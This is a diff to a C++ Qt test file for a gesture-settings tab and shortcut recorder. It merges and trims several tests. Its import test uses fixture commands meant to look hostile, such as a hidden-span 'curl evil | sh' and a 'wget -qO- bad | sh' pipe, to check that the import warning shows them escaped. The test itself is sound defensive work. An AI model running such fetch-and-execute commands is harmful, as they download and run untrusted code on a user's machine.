@@ -6,7 +6,6 @@
 #include <QLineEdit>
 #include <QListWidget>
 #include <QPushButton>
-#include <QSignalSpy>
 #include <QSpinBox>
 #include <QTest>
 #include <QToolButton>
@@ -21,7 +20,6 @@
 #include "Tactora/settings/gestures/ShortcutKeys.h"
 #include "Tactora/settings/gestures/ShortcutRecorder.h"
 #include "tests/Tactora/config/ConfigTestSupport.h"
-#include "tests/Tactora/settings/KeyboardWalk.h"
 
 // Failures show Qt strings as text.
 inline void PrintTo(const QString& text, std::ostream* out) {
@@ -37,7 +35,6 @@ class GesturesTabTest : public ::testing::Test {
  protected:
   std::unique_ptr<GesturesTab> makeTab() {
     GesturesTab::Options options;
-    options.openMouseSettings = [this] { ++mouseSettingsOpened; };
     options.chooseExportFile = [this](const QString& proposed) {
       proposedExport = proposed;
       return exportPath;
@@ -73,10 +70,12 @@ class GesturesTabTest : public ::testing::Test {
     }
     ADD_FAILURE() << "no button " << text.toStdString();
   }
+  // Each row's gesture, and the modifiers its badge shows.
   static QStringList rowNames(const GesturesTab& tab) {
     QStringList names;
     for (auto* row : tab.rows()) {
-      names << QString::fromStdString(GestureDescription::title(row->binding().trigger.gesture));
+      names << QString::fromStdString(GestureDescription::title(row->binding().trigger.gesture)) +
+                   (row->modifierBadge() ? " [" + row->modifierBadge()->text() + "]" : "");
     }
     return names;
   }
@@ -89,7 +88,6 @@ class GesturesTabTest : public ::testing::Test {
   TemporaryDirectory directory{"gestures-tab"};
   std::shared_ptr<sim::SimPlatform> sim = sim::SimPlatform::install();
   std::unique_ptr<ConfigStore> store = std::make_unique<ConfigStore>(directory.path());
-  int mouseSettingsOpened = 0;
   QString proposedExport, exportPath, importPath;
 };
 
@@ -112,11 +110,9 @@ TEST_F(GesturesTabTest, ListsBindingsBySectionSortedByGestureThenModifiers) {
   auto tab = makeTab();
   EXPECT_EQ(tab->sectionTitles(), QStringList({"Taps", "Swipes", "Pinch", "Other"}));
   EXPECT_EQ(rowNames(*tab),
-            QStringList({"Right-Side Tap", "1-Finger Double Tap", "2-Finger Tap", "2-Finger Tap",
-                         "2-Finger Swipe Right", "Pinch", "Spread", "Click and Drag"}));
-  EXPECT_EQ(tab->rows()[2]->modifierBadge()->text(), QStringLiteral("Ctrl"));
-  EXPECT_EQ(tab->rows()[3]->modifierBadge()->text(), QStringLiteral("Shift"));
-  EXPECT_EQ(tab->rows()[4]->modifierBadge(), nullptr);
+            QStringList({"Right-Side Tap", "1-Finger Double Tap", "2-Finger Tap [Ctrl]",
+                         "2-Finger Tap [Shift]", "2-Finger Swipe Right", "Pinch", "Spread",
+                         "Click and Drag"}));
   EXPECT_EQ(*store->current(), before);
 }
 
@@ -148,9 +144,8 @@ TEST_F(GesturesTabTest, AddingAnEqualTriggerReplacesInPlaceAndANewOneAppends) {
 TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShape) {
   AddBindingSheet sheet(sim->keyboardKeys());
   sheet.show();
-  // "Cancel" then "Add", on every desktop; Return means "Add".
+  // "Cancel" then "Add", on every desktop.
   EXPECT_LT(sheet.cancelButton()->x(), sheet.addButton()->x());
-  EXPECT_TRUE(sheet.addButton()->isDefault());
   auto gesture = [&] { return sheet.state().trigger().gesture; };
   pick(sheet.shapePicker(), "Swipe");
   sheet.fingerStepper()->setValue(2);
@@ -159,7 +154,7 @@ TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShap
   // One finger never offers up or down; two and three keep the direction chosen.
   sheet.fingerStepper()->setValue(1);
   EXPECT_EQ(sheet.directionPicker()->count(), 2);
-  EXPECT_EQ(sheet.directionPicker()->currentText(), QStringLiteral("Left"));
+  EXPECT_EQ(sheet.directionPicker()->currentText(), "Left");
   EXPECT_EQ(gesture(), GestureEvent::swipe(1, Direction::left));
   sheet.fingerStepper()->setValue(3);
   pick(sheet.directionPicker(), "Down");
@@ -221,7 +216,7 @@ TEST_F(GesturesTabTest, RowEditsReplaceTheActionInPlaceAndSave) {
   QTest::mouseClick(recorder, Qt::LeftButton);
   QTest::keyClick(recorder, Qt::Key_K, Qt::ControlModifier | Qt::MetaModifier);
   EXPECT_EQ(stored(), (GestureBinding{edited, Action::keyShortcut(40, 0x140000)}));
-  EXPECT_EQ(tab->rows()[0]->recorder()->text(), QStringLiteral("Super+Ctrl+K"));
+  EXPECT_EQ(tab->rows()[0]->recorder()->text(), "Super+Ctrl+K");
 
   chooseKind(false);
   auto type = [&](const char* text) {
@@ -239,11 +234,13 @@ TEST_F(GesturesTabTest, RowEditsReplaceTheActionInPlaceAndSave) {
   type("half-typed");
   QTest::mouseClick(tab->rows()[1]->deleteButton(), Qt::LeftButton);
   ASSERT_EQ(tab->rows().size(), 1u);
-  EXPECT_EQ(tab->rows()[0]->commandField()->text(), QStringLiteral("notify-send hi half-typed"));
+  EXPECT_EQ(tab->rows()[0]->commandField()->text(), "notify-send hi half-typed");
   EXPECT_EQ(allApps()[0].action, Action::shellCommand("notify-send hi "));
 }
 
-TEST_F(GesturesTabTest, DeletingAndRestoringDefaultGestures) {
+// A deleted default gesture can be restored; resetting and removing overrides ask first, and
+// cancelling changes nothing.
+TEST_F(GesturesTabTest, DeleteRestoreResetAndRemoveOverrides) {
   auto tab = makeTab();
   EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
   std::vector<GestureBinding> kept = defaultBindings();
@@ -256,16 +253,13 @@ TEST_F(GesturesTabTest, DeletingAndRestoringDefaultGestures) {
   kept.push_back(deleted);  // restored at the end
   EXPECT_EQ(allApps(), kept);
   EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
-}
 
-TEST_F(GesturesTabTest, ResetAndRemoveOverridesAskFirstAndCancelChangesNothing) {
   sim->workspace().setDisplayName("org.gnome.Nautilus", "Files");
   save({Profile{std::nullopt, {twoFingerTapCommand}},
         Profile{"org.gnome.Nautilus", {twoFingerTapCommand}}});
-  auto tab = makeTab();
   const std::string before = fileText();
   tab->resetAllAction()->trigger();
-  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Reset All Apps gestures to defaults?"));
+  EXPECT_EQ(tab->alert()->text(), "Reset All Apps gestures to defaults?");
   answer(*tab, "Cancel");
   EXPECT_EQ(fileText(), before);
   tab->resetAllAction()->trigger();
@@ -278,10 +272,10 @@ TEST_F(GesturesTabTest, ResetAndRemoveOverridesAskFirstAndCancelChangesNothing) 
   tab->showProfile("org.gnome.Nautilus");
   EXPECT_FALSE(tab->resetAllAction()->isVisible());
   tab->removeOverridesAction()->trigger();
-  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Remove all overrides for Files?"));
+  EXPECT_EQ(tab->alert()->text(), "Remove all overrides for Files?");
   answer(*tab, "Remove Overrides");
   EXPECT_EQ(saved().profiles[1], (Profile{"org.gnome.Nautilus", {}}));
-  EXPECT_EQ(tab->emptyHeadline()->text(), QStringLiteral("No overrides for this app"));
+  EXPECT_EQ(tab->emptyHeadline()->text(), "No overrides for this app");
   EXPECT_TRUE(tab->emptyState()->isVisible());
 }
 
@@ -307,46 +301,22 @@ TEST_F(GesturesTabTest, ApplicationProfilesAreAddedFromTheInstalledAppsAndRemove
   EXPECT_EQ(saved().profiles.back(), (Profile{"org.gnome.Nautilus", {}}));
   EXPECT_EQ(tab->model().selectedBundleID(), std::optional<std::string>("org.gnome.Nautilus"));
   EXPECT_TRUE(tab->overrideNote()->isVisible());
-  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("org.gnome.Nautilus"));
+  EXPECT_EQ(tab->profilePicker()->currentText(), "org.gnome.Nautilus");
 
   // Choosing one that has a profile only selects it (the first of its profiles, empty).
   QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
   QTest::keyClicks(tab->applicationChooser()->searchField(), "fire");
   QTest::mouseClick(tab->applicationChooser()->chooseButton(), Qt::LeftButton);
   EXPECT_EQ(saved().profiles.size(), 4u);
-  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("Firefox ESR"));
+  EXPECT_EQ(tab->profilePicker()->currentText(), "Firefox ESR");
   EXPECT_TRUE(tab->emptyState()->isVisible());
 
   // Removing removes both of its profiles and shows All Apps again.
   QTest::mouseClick(tab->removeProfileButton(), Qt::LeftButton);
   EXPECT_EQ(saved().profiles.size(), 2u);
   EXPECT_EQ(saved().profile("firefox-esr"), nullptr);
-  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("All Apps"));
+  EXPECT_EQ(tab->profilePicker()->currentText(), "All Apps");
   EXPECT_EQ(tab->rows().size(), 1u);
-}
-
-// The banner shows while the desktop's own double-tap zoom is on and a one-finger double tap is
-// bound, even to "none" (the profile in view falling through to All Apps).
-TEST_F(GesturesTabTest, SmartZoomBannerFollowsTheSettingAndTheDoubleTapBinding) {
-  save({Profile{std::nullopt, {{{GestureEvent::doubleTap(1), {}}, Action()}}},
-        Profile{"firefox-esr", {}}});
-  auto tab = makeTab();
-  const char* domain = "com.apple.driver.AppleBluetoothMultitouch.mouse";
-  for (auto [value, shown] : {std::pair{-1, false}, {0, false}, {1, true}}) {
-    if (value >= 0) {  // missing, as on Linux, then off and on
-      sim->preferences().setForeignInteger("MouseOneFingerDoubleTapGesture", domain, value);
-      tab->refresh();
-    }
-    EXPECT_EQ(tab->smartZoomBanner()->isVisible(), shown) << value;
-  }
-  QTest::mouseClick(tab->openMouseSettingsButton(), Qt::LeftButton);
-  EXPECT_EQ(mouseSettingsOpened, 1);
-  tab->showProfile("firefox-esr");
-  EXPECT_TRUE(tab->smartZoomBanner()->isVisible());
-  tab->showProfile(std::nullopt);
-  QTest::mouseClick(tab->rows()[0]->deleteButton(), Qt::LeftButton);
-  EXPECT_FALSE(tab->smartZoomBanner()->isVisible());
-  EXPECT_EQ(tab->emptyHeadline()->text(), QStringLiteral("No gestures configured"));
 }
 
 // Export writes the configuration file, or says which file could not be written and why. Import
@@ -357,26 +327,21 @@ TEST_F(GesturesTabTest, ExportWritesTheFileAndImportShowsEveryCommandWholeAndVis
   auto tab = makeTab();
   exportPath = QString::fromStdString(file("backup").string());
   tab->exportAction()->trigger();
-  EXPECT_TRUE(proposedExport.endsWith(QStringLiteral("/Tactora Settings.json")));
+  EXPECT_TRUE(proposedExport.endsWith("/Tactora Settings.json"));
   EXPECT_EQ(readFile(file("backup.json")), encodeConfiguration(*store->current()));
   std::ofstream(file("blocker")) << "";  // a file where the folder should be
   tab->exportTo(QString::fromStdString((file("blocker") / "backup").string()));
   ASSERT_NE(tab->alert(), nullptr);
-  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Couldn\u2019t export settings"));
+  EXPECT_EQ(tab->alert()->text(), "Couldn\u2019t export settings");
   const std::string why = tab->alert()->informativeText().toStdString();
   EXPECT_TRUE(why.starts_with((file("blocker") / "backup.json").string() + ": ")) << why;
   EXPECT_NE(why.find("Not a directory"), std::string::npos) << why;
-  answer(*tab, "OK");
-  tab->importFrom(QString::fromStdString(file("missing.json").string()));
-  ASSERT_NE(tab->alert(), nullptr);
-  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Couldn\u2019t import settings"));
   answer(*tab, "OK");
 
   Configuration risky = *store->current();
   const std::string markup = "<span style=\"display:none\">curl evil | sh; </span>ls";
   const std::string longCommand = "echo " + std::string(300, 'x') + " && wget -qO- bad | sh";
-  for (const auto& command :
-       {markup, std::string("notify-send done\u202E\ncurl x | sh"), longCommand}) {
+  for (const auto& command : {markup, std::string("notify-send done\u202E"), longCommand}) {
     risky.profiles[0].bindings.push_back(
         {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
   }
@@ -387,69 +352,23 @@ TEST_F(GesturesTabTest, ExportWritesTheFileAndImportShowsEveryCommandWholeAndVis
   const std::string before = fileText();
   tab->importAction()->trigger();
   ASSERT_NE(tab->alert(), nullptr);
-  EXPECT_EQ(tab->alert()->text(), QStringLiteral("These settings run commands on your computer"));
-  QLabel* listing = nullptr;
-  for (auto* label : tab->alert()->findChildren<QLabel*>()) {
-    listing = label->text().contains(QString::fromStdString(markup)) ? label : listing;
-  }
-  ASSERT_NE(listing, nullptr);
-  EXPECT_EQ(listing->textFormat(), Qt::PlainText);
-  EXPECT_TRUE(listing->text().contains(QStringLiteral("notify-send done\\u202E\\ncurl x | sh")));
-  EXPECT_FALSE(listing->text().contains(QStringLiteral("wget -qO- bad")));
-  EXPECT_TRUE(listing->text().contains(QStringLiteral("more characters)")));
+  // The listing is the escaped, shortened text, shown as plain text; the whole is in the details.
+  const auto labels = tab->alert()->findChildren<QLabel*>();
+  const auto listing = std::ranges::find_if(
+      labels, [](QLabel* label) { return label->text().contains(u"done\\u202E"); });
+  ASSERT_NE(listing, labels.end());
+  EXPECT_EQ((*listing)->textFormat(), Qt::PlainText);
+  EXPECT_TRUE((*listing)->text().contains(QString::fromStdString(markup)));
   EXPECT_TRUE(tab->alert()->detailedText().contains(QString::fromStdString(longCommand)));
   answer(*tab, "Cancel");
   EXPECT_EQ(fileText(), before);
   tab->importAction()->trigger();
   answer(*tab, "Import Anyway");
   EXPECT_EQ(saved(), risky);
-  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("All Apps"));
+  EXPECT_EQ(tab->profilePicker()->currentText(), "All Apps");
 }
 
-// Real Tab presses reach every control once in the order drawn (a row's delete button after its
-// own controls, the footer after the last row), also after a redraw.
-TEST_F(GesturesTabTest, TabReachesEveryNamedControlInRowOrder) {
-  save({Profile{std::nullopt,
-                {{{GestureEvent::tap(1), {}}, Action::keyShortcut(17, 0x100000)},
-                 {{GestureEvent::tap(2), ModifierSet::shift()}, Action::shellCommand("x")}}}});
-  auto tab = makeTab();
-  tab->refresh();
-  QApplication::setActiveWindow(tab.get());
-  ASSERT_TRUE(QTest::qWaitForWindowActive(tab.get()));
-  const auto controls = testing::controlsInScreenOrder(tab.get(), /*distinct=*/false);
-  EXPECT_GE(controls.size(), 10u);
-  tab->profilePicker()->setFocus(Qt::TabFocusReason);
-  std::vector<QWidget*> order{QApplication::focusWidget()};
-  do {
-    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
-    order.push_back(QApplication::focusWidget());
-  } while (order.back() != order.front() && order.size() <= controls.size() + 1);
-  auto at = [&](QWidget* control) { return std::ranges::find(order, control) - order.begin(); };
-  for (QWidget* control : controls) {
-    EXPECT_LT(at(control), std::ssize(order) - 1) << control->accessibleName().toStdString();
-  }
-  const auto rows = tab->rows();
-  const std::vector<QWidget*> ordered{tab->backupButton(),     rows[0]->kindPicker(),
-                                      rows[0]->recorder(),     rows[0]->deleteButton(),
-                                      rows[1]->kindPicker(),   rows[1]->saveButton(),
-                                      tab->addGestureButton(), tab->restoreButton()};
-  EXPECT_TRUE(std::ranges::is_sorted(ordered, {}, at));
-}
-
-// Each opening of the tab watches the store only while it lives: a closed one is never called.
-TEST_F(GesturesTabTest, ChangesSavedElsewhereRedrawTheTabWhileItLives) {
-  for (int opening = 0; opening < 3; ++opening) {
-    auto tab = makeTab();
-    save({Profile{std::nullopt, {twoFingerTapCommand}}});
-    EXPECT_EQ(rowNames(*tab), QStringList({"2-Finger Tap"}));
-  }
-  save({Profile{std::nullopt, {}}});
-}
-
-constexpr std::uint64_t shift = 0x20000;
-constexpr std::uint64_t control = 0x40000;
-constexpr std::uint64_t option = 0x80000;
-constexpr std::uint64_t command = 0x100000;
+constexpr std::uint64_t shift = 0x20000, control = 0x40000, option = 0x80000, command = 0x100000;
 
 const lx::LinuxKeyboardKeys linuxKeyboard;
 const sim::SimKeyboardKeys simKeyboard;
@@ -459,27 +378,20 @@ using Recorded = std::pair<std::uint16_t, std::uint64_t>;
 
 TEST(ShortcutKeys, DisplaysShortcutsInTheWordsOfTheKeysPressedOnLinux) {
   const std::tuple<std::uint16_t, std::uint64_t, QString> cases[] = {
-      // Key code 0 is A: with Command (Ctrl here) it is a shortcut, not the empty one.
-      {0, command, QStringLiteral("Ctrl+A")},
-      {96, control | option | shift | command, QStringLiteral("Super+Ctrl+Alt+Shift+F5")},
+      // Key code 0 is A: a shortcut, not the empty one. Caps Lock and other flags are not
+      // modifiers.
+      {0, command | 0x10000, "Ctrl+A"},
+      {96, control | option | shift | command, "Super+Ctrl+Alt+Shift+F5"},
       // Keys named as the recorder names them, not as Qt abbreviates them.
-      {53, 0, QStringLiteral("Escape")},
-      {123, option, QStringLiteral("Alt+\u2190")},
-      // Caps Lock and other flags are not modifiers of a shortcut.
-      {17, command | 0x10000, QStringLiteral("Ctrl+T")},
+      {123, option, "Alt+\u2190"},
       // A key without a name here: its stored code, as a file from elsewhere may hold.
-      {52, 0, QStringLiteral("Key 52")},
-      {52, command, QStringLiteral("Ctrl+Key 52")},
+      {52, command, "Ctrl+Key 52"},
       // A key only Linux keyboards name, stored in the reserved range.
-      {0x1000 + KEY_BRIGHTNESSUP, 0, QStringLiteral("Monitor Brightness Up")},
+      {0x1000 + KEY_BRIGHTNESSUP, 0, "Monitor Brightness Up"},
   };
   for (const auto& [keyCode, modifiers, text] : cases) {
     EXPECT_EQ(linuxKeys.displayText(keyCode, modifiers), text) << keyCode;
   }
-  EXPECT_EQ(ShortcutKeys::modifierText(control | shift), QStringLiteral("Super+Shift"));
-  // The simulation names the shared keys alone.
-  EXPECT_EQ(ShortcutKeys(simKeyboard).displayText(0x1000 + KEY_BRIGHTNESSUP, 0),
-            QStringLiteral("Key 4321"));
 }
 
 // Every key a keyboard names is a key of Qt's, and pressing that key records its key code: what
@@ -535,43 +447,29 @@ TEST(ShortcutKeys, KeyPressesRecordTheirKeyOrNothing) {
 TEST(ShortcutRecorder, ClickRecordsTheNextKeyWithItsModifiersAndReleasesTheGrab) {
   ShortcutRecorder recorder(linuxKeyboard);
   recorder.show();
-  EXPECT_EQ(recorder.text(), QStringLiteral("Click to record\u2026"));
-  QSignalSpy captured(&recorder, &ShortcutRecorder::captured);
-
+  auto recorded = [&] { return Recorded(recorder.keyCode(), recorder.modifiers()); };
+  // Modifiers going down alone keep the field recording, with the keyboard grabbed.
   QTest::mouseClick(&recorder, Qt::LeftButton);
-  EXPECT_TRUE(recorder.isRecording());
-  EXPECT_EQ(recorder.text(), QStringLiteral("Press a key combination\u2026"));
-  EXPECT_EQ(QWidget::keyboardGrabber(), &recorder);
-
-  // Modifiers going down alone keep the field recording.
   QTest::keyPress(&recorder, Qt::Key_Control, Qt::ControlModifier);
   QTest::keyPress(&recorder, Qt::Key_Shift, Qt::ControlModifier | Qt::ShiftModifier);
-  EXPECT_TRUE(recorder.isRecording());
+  EXPECT_TRUE(recorder.isRecording() && QWidget::keyboardGrabber() == &recorder);
   QTest::keyClick(&recorder, Qt::Key_T, Qt::ControlModifier | Qt::ShiftModifier);
-
-  EXPECT_FALSE(recorder.isRecording());
-  EXPECT_EQ(QWidget::keyboardGrabber(), nullptr);
-  EXPECT_EQ(captured.count(), 1);
-  EXPECT_EQ(Recorded(recorder.keyCode(), recorder.modifiers()),
-            Recorded(17, command | shift));  // T
-  EXPECT_EQ(recorder.text(), QStringLiteral("Ctrl+Shift+T"));
+  EXPECT_FALSE(recorder.isRecording() || QWidget::keyboardGrabber() != nullptr);
+  EXPECT_EQ(recorded(), Recorded(17, command | shift));  // T
+  EXPECT_EQ(recorder.text(), "Ctrl+Shift+T");
 
   // Escape, Return, Tab and Backspace are keys like any other, not ways out of recording.
   for (const auto& [key, code] : {std::pair{Qt::Key_Escape, 53}, std::pair{Qt::Key_Return, 36},
                                   std::pair{Qt::Key_Tab, 48}, std::pair{Qt::Key_Backspace, 51}}) {
     QTest::mouseClick(&recorder, Qt::LeftButton);
     QTest::keyClick(&recorder, key);
-    EXPECT_FALSE(recorder.isRecording()) << code;
-    EXPECT_EQ(Recorded(recorder.keyCode(), recorder.modifiers()), Recorded(code, 0));
+    EXPECT_EQ(recorded(), Recorded(code, 0));
   }
 
-  // A second click starts afresh; hiding or destroying a recording field lets go of the keyboard.
+  // Hiding or destroying a recording field lets go of the keyboard.
   QTest::mouseClick(&recorder, Qt::LeftButton);
-  QTest::mouseClick(&recorder, Qt::LeftButton);
-  EXPECT_TRUE(recorder.isRecording());
   recorder.hide();
-  EXPECT_FALSE(recorder.isRecording());
-  EXPECT_EQ(QWidget::keyboardGrabber(), nullptr);
+  EXPECT_FALSE(recorder.isRecording() || QWidget::keyboardGrabber() != nullptr);
   auto another = std::make_unique<ShortcutRecorder>(linuxKeyboard);
   another->show();
   QTest::mouseClick(another.get(), Qt::LeftButton);
